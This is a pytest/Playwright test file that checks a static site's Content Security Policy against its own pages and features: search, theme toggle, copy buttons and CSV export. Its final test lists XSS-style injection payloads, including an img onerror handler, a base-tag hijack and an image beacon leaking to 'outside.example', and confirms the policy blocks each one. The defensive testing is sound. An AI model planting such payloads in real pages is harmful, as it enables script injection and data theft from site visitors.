"""Everything works under the policy that each page carries, on a server and from a folder on disk."""

import pytest

from tests.conftest import Watched
from tests.test_browser import KINDS

pytestmark = pytest.mark.browser

LISTEN = """
window.refused = [];
addEventListener("securitypolicyviolation", (e) => refused.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`));
"""

UNFOLD = "for (const folded of document.querySelectorAll('details')) folded.open = true"


@pytest.fixture
def listening(watched: Watched) -> Watched:
    """A page that hears of everything its policy refuses."""
    watched.page.add_init_script(LISTEN)
    return watched


def assert_nothing_refused(watched: Watched) -> None:
    assert watched.page.evaluate("refused") == []
    assert watched.complaints == []


def test_no_kind_of_page_is_refused_anything(listening: Watched, root: str) -> None:
    page = listening.page
    for path in (*KINDS.values(), *(["404.html"] if root.startswith("http") else [])):
        page.goto(f"{root}/{path}")
        page.evaluate(UNFOLD)
        page.screenshot()  # what a style asks for is asked for when the page is laid out
        assert page.evaluate("[...document.styleSheets].every((sheet) => sheet.href)")
        assert_nothing_refused(listening)


def test_search_scheme_cards_and_copies_work(listening: Watched, root: str) -> None:
    page = listening.page
    page.goto(f"{root}/{KINDS['transaction']}")
    page.locator("button.scheme").click()
    assert page.locator("body").get_attribute("data-md-color-scheme") == "lamp"
    page.locator("#c1 .mark").first.click()
    page.locator("#c1 .card").wait_for()
    page.evaluate(UNFOLD)
    copy = page.locator("button.copy").first
    copy.click()
    page.wait_for_function("button => button.textContent !== 'Copy'", arg=copy.element_handle())
    page.keyboard.press("/")
    page.keyboard.type("morning star")
    page.locator("#found [role=option]").first.wait_for()
    assert_nothing_refused(listening)
    page.keyboard.press("Enter")
    page.wait_for_url("**/actors/morning-star.html")
    assert_nothing_refused(listening)


def test_what_the_header_does_not_find_leads_to_the_page_of_the_search(listening: Watched, root: str) -> None:
    """No form may be sent anywhere, and Firefox sends none in a folder even to itself: the script goes there."""
    page = listening.page
    page.goto(f"{root}/{KINDS['place']}")
    page.keyboard.press("/")
    page.keyboard.type("nothing & nobody")
    page.locator(".find [role=status]", has_text="Nothing found").first.wait_for()
    page.keyboard.press("Enter")
    page.wait_for_url("**/search.html?q=nothing*")
    assert page.locator("#find-page").input_value() == "nothing & nobody"
    page.locator("#find-page").fill("nampo")
    page.locator(".find-page li").first.wait_for()
    assert_nothing_refused(listening)


def test_explore_works_and_hands_out_its_table(listening: Watched, root: str) -> None:
    page = listening.page
    page.goto(f"{root}/{KINDS['explore']}")
    page.locator("fieldset[data-facet=with]").get_by_label("Norway").check()
    assert "2 of 3 entries" in page.locator(".sentence").inner_text()
    with page.expect_download() as saved:
        page.get_by_role("button", name="as CSV").click()
    assert saved.value.suggested_filename == "in-exchange.csv"
    assert_nothing_refused(listening)


@pytest.mark.parametrize(
    "attack",
    [
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s)",
        "document.body.innerHTML = '<img src=x onerror=window.ran=1>'",
        "const s = document.createElement('script'); s.src = 'assets/js/site.js'; document.head.append(s)",
        "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
        "new Image().src = 'https://outside.example/?leak'",
        "fetch('index.html').catch(() => {})",
        "const b = document.createElement('base'); b.href = 'https://outside.example/'; document.head.append(b)",
        "const i = document.createElement('iframe'); i.src = 'index.html'; document.body.append(i)",
        "document.body.setAttribute('style', 'background: red')",
    ],
)
def test_the_policy_would_stop_what_a_hole_let_in(attack: str, listening: Watched, server: str) -> None:
    """Else the tests above would pass without any policy."""
    page = listening.page
    page.goto(f"{server}/{KINDS['home']}")
    page.evaluate(f"() => {{ try {{ {attack} }} catch {{}} }}")
    page.wait_for_function("refused.length > 0")
    assert page.evaluate("window.ran") is None
